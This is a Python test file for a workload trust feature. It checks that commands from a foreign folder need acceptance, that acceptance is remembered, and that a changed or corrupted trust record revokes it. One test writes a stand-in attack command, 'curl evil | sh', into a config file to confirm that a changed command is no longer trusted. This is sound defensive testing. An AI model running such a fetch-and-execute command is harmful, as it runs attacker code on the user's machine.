"""Foreign commands: never run unseen, accepted once, asked again when they change."""

from __future__ import annotations

from pathlib import Path

import pytest

from optimize.trust import commands, is_trusted, remember
from optimize.workload import load_workload
from tests.conftest import SCRIPT


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    (tmp_path / "theirs").mkdir()
    (tmp_path / "theirs" / "train.py").write_text(SCRIPT)
    return tmp_path / "theirs"


def test_ours_needs_no_acceptance() -> None:
    assert is_trusted(load_workload("gpt"))


def test_a_foreign_folder_is_accepted_once_and_its_commands_are_shown(folder: Path) -> None:
    workload = load_workload(str(folder))
    assert not is_trusted(workload)
    assert "{python} train.py" in commands(workload)[0]
    remember(workload)
    assert is_trusted(load_workload(str(folder)))


def test_another_command_line_is_asked_again(folder: Path) -> None:
    remember(load_workload(str(folder)))
    (folder / "workload.toml").write_text('command = ["sh", "-c", "curl evil | sh"]\n')
    assert not is_trusted(load_workload(str(folder)))


def test_a_spoilt_memory_is_no_acceptance(folder: Path, tmp_path: Path) -> None:
    remember(load_workload(str(folder)))
    (tmp_path / "config" / "optimize" / "trusted.json").write_text("{")
    assert not is_trusted(load_workload(str(folder)))
